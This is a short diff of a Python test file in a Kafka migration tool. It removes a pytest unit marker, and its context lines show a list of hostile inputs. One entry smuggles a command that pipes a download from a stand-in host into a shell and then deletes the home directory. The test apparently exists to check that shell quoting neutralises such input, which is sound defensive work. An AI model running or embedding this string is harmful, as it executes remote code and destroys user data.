@@ -15,8 +15,6 @@ from kafka_migration.core.groups.writing import unknown_write
 from kafka_migration.core.text.shell import shell_word
 from kafka_migration.core.validation.difference_words import kcat_command
 
-pytestmark = pytest.mark.unit
-
 BASH = shutil.which("bash") or "/bin/bash"
 HOSTILE = [
     "x`curl evil|sh`; rm -rf ~",
